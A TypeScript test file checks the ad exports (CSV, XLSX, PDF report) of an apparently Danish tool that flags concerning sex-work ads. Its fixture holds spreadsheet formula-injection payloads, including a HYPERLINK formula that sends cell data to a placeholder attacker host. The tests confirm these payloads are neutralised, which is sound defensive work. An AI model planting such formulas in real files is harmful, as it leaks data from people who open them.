import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pdfText } from '../report/pdf-text.js';
import type { ErrorBody } from './errors.js';
import { listAdsQuery } from './routes/ads/schema.js';
import { createTestServer, type TestServer } from './test-fixtures.js';

/**
 * The exports against a real seeded store: every list filter gives the same ads in the export as
 * in the list, cells from ad text cannot run as formulas, and the PDF carries the evidence.
 */
let t: TestServer;
let cookie: string;
let hostileId: number;

/** Ad text is written by strangers: each field here would run as a formula in a spreadsheet. */
const hostile = {
  name: '=HYPERLINK("http://evil.invalid/?"&A1,"klik")',
  city: '@SUM(1+1)',
  phone: '-2+3',
};

beforeAll(async () => {
  t = await createTestServer();
  cookie = await t.login('outreach');
  const run = (await t.repo.startOrResumeRun('site-a', '2026-10-05T10:00:00.000Z')).run;
  const { adId } = await t.repo.recordAd({
    siteId: 'site-a',
    siteAdId: '66',
    url: 'http://127.0.0.1:4101/ad/66',
    seenAt: '2026-10-05T10:00:00.000Z',
    runId: run.id,
    snapshot: {
      photoHashes: [],
      title: 'Hej',
      text: 'Sød pige i Næstved',
      name: hostile.name,
      city: hostile.city,
      phones: [hostile.phone],
    },
  });
  hostileId = adId;
  const outreach = await t.repo.getUserByName('outreach');
  await t.repo.updateCase({
    adId: t.ids.red,
    status: 'contacted',
    assigneeId: outreach!.id,
    userId: outreach!.id,
    at: '2026-10-06T09:00:00.000Z',
  });
});
afterAll(async () => {
  await t.close();
});

async function get(url: string, as = cookie) {
  return t.app.inject({ method: 'GET', url, headers: { cookie: as } });
}

/** RFC 4180 records (quoted fields, doubled quotes, CRLF or LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = (): void => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endField();
    else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      endField();
      rows.push(row);
      row = [];
    } else field += ch;
  }
  if (field !== '' || row.length > 0) {
    endField();
    rows.push(row);
  }
  return rows;
}

function csvRecords(body: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(body.replace(/^\uFEFF/, ''));
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
}

/** One example value per list filter; the test below fails when the list gains a filter not here. */
const filterExamples: [filter: Record<string, string>, rows: number][] = [
  [{}, 3],
  [{ site: 'site-a' }, 3],
  [{ city: 'Odense' }, 1],
  [{ status: 'all' }, 4],
  [{ status: 'gone' }, 1],
  [{ level: 'yellow' }, 1],
  [{ seenFrom: '2026-10-02', seenTo: '2026-10-03' }, 2],
  [{ seenFrom: '2026-10-03T00:00:00Z' }, 2],
  [{ q: 'byen' }, 1],
  [{ sort: 'firstSeen', status: 'all' }, 4],
  [{ sort: 'lastSeen' }, 3],
  [{ sort: 'score', dir: 'asc', status: 'all' }, 4],
  [{ sort: 'city' }, 3],
  [{ scoreMin: '3', scoreMax: '6' }, 1],
  [{ firstFrom: '2026-10-02', firstTo: '2026-10-05' }, 2],
  [{ indicator: 'new-in-town' }, 2],
  [{ nationality: 'ro' }, 0],
  [{ language: 'en' }, 0],
  [{ phone: '22 33 44 55' }, 1],
  [{ followUp: 'contacted' }, 1],
  [{ followUp: 'new' }, 2],
  [{ assignee: 'me' }, 1],
];

describe('GET /api/exports/ads.csv', () => {
  it('covers every filter of the ad list in the examples below', () => {
    const listed = Object.keys(listAdsQuery.shape).filter((k) => k !== 'limit' && k !== 'offset');
    const covered = new Set(filterExamples.flatMap(([e]) => Object.keys(e)));
    expect(listed.filter((k) => !covered.has(k))).toEqual([]);
  });

  it.each(filterExamples)(
    'lists the same ads in the same order as GET /api/ads for %o',
    async (filter, rows) => {
      const search = new URLSearchParams(filter).toString();
      const list = await get(`/api/ads?${search}&limit=200`);
      expect(list.statusCode, list.body).toBe(200);
      const res = await get(`/api/exports/ads.csv?${search}`);
      expect(res.statusCode, res.body).toBe(200);
      const keys = csvRecords(res.body).map((r) => r.key);
      expect(keys).toEqual(list.json<{ ads: { key: string }[] }>().ads.map((a) => a.key));
      expect(keys).toHaveLength(rows);
    },
  );

  it('sends a dated attachment that no cache keeps, UTF-8 with BOM and a header row', async () => {
    const res = await get('/api/exports/ads.csv?status=all');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="opspor-ads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(parseCsv(res.body.slice(1))[0]).toEqual([
      'id',
      'key',
      'url',
      'site',
      'city',
      'name',
      'age',
      'nationality',
      'phones',
      'level',
      'score',
      'indicators',
      'post_kind',
      'first_seen',
      'last_seen',
      'status',
      'follow_up',
    ]);
  });

  it('writes the facts, scores and fired indicators of each ad', async () => {
    const rows = csvRecords((await get('/api/exports/ads.csv?status=all')).body);
    const red = rows.find((r) => r.id === String(t.ids.red))!;
    expect(red).toMatchObject({
      key: 'site-a:1',
      url: 'http://127.0.0.1:4101/ad/1',
      site: 'site-a',
      city: 'Odense',
      name: 'Mia',
      age: '19',
      phones: "'+4522334455",
      level: 'red',
      score: '7',
      indicators: 'youth-emphasis; new-in-town; low-price',
      post_kind: 'offer',
      status: 'active',
      follow_up: 'contacted',
    });
    expect(rows.find((r) => r.id === String(t.ids.gone))).toMatchObject({
      status: 'gone',
      city: 'Aarhus',
      follow_up: 'new',
    });
    expect(rows.find((r) => r.id === String(t.ids.yellow))?.city).toBe('København');
  });

  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const rows = csvRecords((await get('/api/exports/ads.csv')).body);
    const row = rows.find((r) => r.id === String(hostileId))!;
    expect(row.name).toBe(`'${hostile.name}`);
    expect(row.city).toBe(`'${hostile.city}`);
    expect(row.phones).toBe(`'${hostile.phone}`);
  });

  it('refuses paging and unknown parameters with a clear 400', async () => {
    for (const query of ['limit=10', 'offset=5', 'levle=red', 'level=purple']) {
      const res = await get(`/api/exports/ads.csv?${query}`);
      expect(res.statusCode, query).toBe(400);
      expect(res.json<ErrorBody>().error.code).toBe('VALIDATION');
    }
  });

  it('audits each export: who, the filter as given, how many ads', async () => {
    await get('/api/exports/ads.csv?level=red&city=Odense');
    const [event] = await t.repo.listAudit({ subject: 'ads', limit: 1 });
    const outreach = await t.repo.getUserByName('outreach');
    expect(event).toMatchObject({
      action: 'export.csv',
      userId: outreach!.id,
      detail: { filter: { level: 'red', city: 'Odense' }, rows: 1 },
    });
  });
});

describe('GET /api/exports/ads.xlsx', () => {
  it('is a workbook with the same rows, Danish letters intact and formulas neutralised', async () => {
    const res = await get('/api/exports/ads.xlsx?status=all');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/filename="opspor-ads-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('ads')!;
    const values = sheet.getSheetValues().slice(1) as unknown[][];
    const header = values[0]!.slice(1);
    const rows = values.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [String(h), r[i + 1]])));
    expect(rows.map((r) => r.key)).toEqual(
      csvRecords((await get('/api/exports/ads.csv?status=all')).body).map((r) => r.key),
    );
    expect(rows.find((r) => r.id === t.ids.yellow)?.city).toBe('København');
    expect(rows.find((r) => r.id === t.ids.red)).toMatchObject({ score: 7, level: 'red', age: 19 });
    expect(rows.find((r) => r.id === hostileId)?.name).toBe(`'${hostile.name}`);
    // A cell is a value, never a formula, whatever the ad says.
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      });
    });
    const [event] = await t.repo.listAudit({ subject: 'ads', limit: 2 });
    expect(event?.action).toBe('export.csv');
  });
});

describe('GET /api/reports/concerning.pdf', () => {
  it('shows the top ads by score with facts, weights, evidence in context and the reminder (Danish)', async () => {
    const res = await get('/api/reports/concerning.pdf');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toMatch(/filename="opspor-report-\d{4}-\d{2}-\d{2}\.pdf"/);
    const text = pdfText(res.rawPayload);
    expect(text).toContain('Mest bekymrende annoncer');
    expect(text).toContain('opmærksomhedspunkt, aldrig et bevis');
    expect(text.indexOf('site-a:1')).toBeLessThan(text.indexOf('site-a:2'));
    expect(text).toContain('1. RØD · Score 7 · site-a:1');
    expect(text).toContain('By: København');
    expect(text).toContain('Telefon: +4522334455');
    expect(text).toContain('Opfølgning: kontaktet');
    expect(text).toContain('Først set:');
    // Indicator ids stand in for labels here: the test server has no catalogue labels beyond the registry.
    expect(text).toMatch(/\(vægt 3\)/);
    // Evidence: the quote with the words around it, from the current ad text.
    expect(text).toContain('i annoncetekst: Ny i byen <b>& "sød"</b> ung pige 19 år.');
    expect(text).toContain('i pris 1: 1 time 500 kr');
  });

  it('follows the filter and the size, and speaks English with ?lang=en', async () => {
    const res = await get('/api/reports/concerning.pdf?lang=en&level=yellow&top=1');
    expect(res.statusCode, res.body).toBe(200);
    const text = pdfText(res.rawPayload);
    expect(text).toContain('Most concerning ads');
    expect(text).toContain('Filter: level=yellow');
    expect(text).toContain('point of attention, never proof');
    expect(text).toContain('1. YELLOW · Score 3 · site-a:2');
    expect(text).not.toContain('site-a:1');
    const [event] = await t.repo.listAudit({ subject: 'ads', limit: 1 });
    expect(event).toMatchObject({ action: 'report.pdf', detail: { rows: 1 } });
  });

  it('refuses a report of more than 100 ads or in an unknown language', async () => {
    expect((await get('/api/reports/concerning.pdf?top=101')).statusCode).toBe(400);
    expect((await get('/api/reports/concerning.pdf?lang=de')).statusCode).toBe(400);
  });

  it('is not for read-only accounts', async () => {
    const res = await get('/api/reports/concerning.pdf', await t.login('read-only'));
    expect(res.statusCode).toBe(403);
  });
});
